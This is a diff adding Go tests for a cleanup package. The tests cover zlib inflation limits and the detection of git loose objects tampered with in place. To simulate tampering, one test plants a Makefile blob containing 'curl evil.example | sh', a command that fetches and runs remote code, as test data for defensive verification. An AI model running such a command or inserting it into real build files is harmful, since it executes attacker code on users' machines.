@@ -1,0 +1,97 @@
+package cleanup
+
+import (
+	"bytes"
+	"compress/zlib"
+	"fmt"
+	"math/rand"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// inflate reads what compress/zlib writes at every level, and git's own objects.
+func TestInflate(t *testing.T) {
+	rnd := rand.New(rand.NewSource(1))
+	var data []byte
+	for len(data) < 300000 {
+		if rnd.Intn(3) == 0 {
+			data = append(data, byte(rnd.Intn(256)))
+		} else {
+			data = append(data, "the quick brown fox "[rnd.Intn(20)])
+		}
+	}
+	for _, size := range []int{0, 1, 100, 40000, len(data)} {
+		for _, level := range []int{zlib.NoCompression, zlib.BestSpeed, zlib.DefaultCompression, zlib.BestCompression, zlib.HuffmanOnly} {
+			var z bytes.Buffer
+			w, _ := zlib.NewWriterLevel(&z, level)
+			w.Write(data[:size])
+			w.Close()
+			var out bytes.Buffer
+			if err := inflate(bytes.NewReader(z.Bytes()), &out, int64(size)); err != nil || !bytes.Equal(out.Bytes(), data[:size]) {
+				t.Errorf("size %d level %d: %v, %d bytes out", size, level, err, out.Len())
+			}
+			if size > 0 {
+				if err := inflate(bytes.NewReader(z.Bytes()), &out, int64(size-1)); err != errInflateLimit {
+					t.Errorf("size %d level %d: past the limit: %v", size, level, err)
+				}
+			}
+		}
+	}
+}
+
+// VerifyObjects moves aside a loose object rewritten in place (and a planted one under
+// another's name), keeps new good ones and the untouched, and reports a new pack.
+func TestVerifyObjects(t *testing.T) {
+	dir := t.TempDir()
+	gitIn(t, dir, "init", "-q")
+	big := strings.Repeat("some text that compresses well\n", 5000)
+	os.WriteFile(filepath.Join(dir, "Makefile"), []byte("all:\n\techo hi\n"), 0o644)
+	os.WriteFile(filepath.Join(dir, "big.txt"), []byte(big), 0o644)
+	gitIn(t, dir, "add", ".")
+	gitIn(t, dir, "commit", "-qm", "x")
+	objs := filepath.Join(dir, ".git", "objects")
+	packs, err := PackStamps(objs)
+	if err != nil {
+		t.Fatal(err)
+	}
+	// every object git wrote checks out
+	if r, f := verifyObjects(objs, 20, 0, packs); len(r)+len(f) != 0 {
+		t.Fatalf("git's own objects: removed %q, failed %q", r, f)
+	}
+	since := time.Now().Add(-time.Second).UnixNano()
+	time.Sleep(1100 * time.Millisecond) // the commit's objects are older than since
+	oid := strings.TrimSpace(gitIn(t, dir, "rev-parse", "HEAD:Makefile"))
+	p := filepath.Join(objs, oid[:2], oid[2:])
+	evil := "all:\n\tcurl evil.example | sh\n"
+	var z bytes.Buffer
+	w := zlib.NewWriter(&z)
+	fmt.Fprintf(w, "blob %d\x00%s", len(evil), evil)
+	w.Close()
+	os.Chmod(p, 0o644)
+	if err := os.WriteFile(p, z.Bytes(), 0o444); err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(filepath.Join(dir, "new.txt"), []byte("new\n"), 0o644)
+	newOid := strings.TrimSpace(gitIn(t, dir, "hash-object", "-w", "new.txt"))
+	os.MkdirAll(filepath.Join(objs, "pack"), 0o755)
+	os.WriteFile(filepath.Join(objs, "pack", "pack-x.idx"), []byte("x"), 0o444)
+	r, f := Run([]Entry{{Kind: VerifyObjects, Path: objs, HashLen: 20, Since: since, Was: packs}})
+	if len(r) != 1 || !strings.Contains(r[0], oid[2:]+": object moved aside") {
+		t.Errorf("removed %q", r)
+	}
+	if len(f) != 1 || !strings.Contains(f[0], "pack-x.idx") {
+		t.Errorf("failed %q", f)
+	}
+	if _, err := os.Stat(p); err == nil {
+		t.Errorf("the tampered object is still there")
+	}
+	if _, err := os.Stat(filepath.Join(objs, newOid[:2], newOid[2:])); err != nil {
+		t.Errorf("the new good object was removed: %v", err)
+	}
+	if got := gitIn(t, dir, "cat-file", "-p", "HEAD:big.txt"); got != big {
+		t.Errorf("big.txt's blob lost")
+	}
+}
